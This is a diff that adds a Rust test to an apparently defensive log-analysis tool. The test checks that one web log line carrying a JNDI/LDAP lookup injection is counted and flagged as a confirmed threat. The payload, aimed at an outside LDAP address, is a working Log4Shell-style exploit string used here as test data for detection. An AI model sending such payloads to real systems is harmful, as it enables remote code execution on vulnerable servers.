@@ -47,6 +47,18 @@ fn a_fact_that_counts_keeps_what_all_its_records_say() {
     assert_eq!(Packet::read(&flows.to_bytes()).unwrap(), flows);
 }
 
+// covers: ARES-003
+#[test]
+fn messages_with_expressions_are_counted_apart() {
+    let app = |second: u32, path: &str| format!("Mar 10 08:00:{second:02} web01 app[1]: GET {path}\n");
+    let ordinary: String = (0..30).map(|second| app(second, &format!("/index.html?{second}"))).collect();
+    let attack = ordinary + &app(50, "/?x=${jndi:ldap://203.0.113.5/a}");
+    let packet = packet(&attack);
+    let shown = packet.facts().iter().filter(|fact| fact.action == "logged an expression");
+    assert_eq!(shown.count(), 1);
+    assert_eq!(verdict(&attack), Verdict::ThreatConfirmed);
+}
+
 // covers: ARES-131
 #[test]
 fn a_dismissal_is_not_complete_where_a_rule_could_hold_of_what_is_only_counted() {
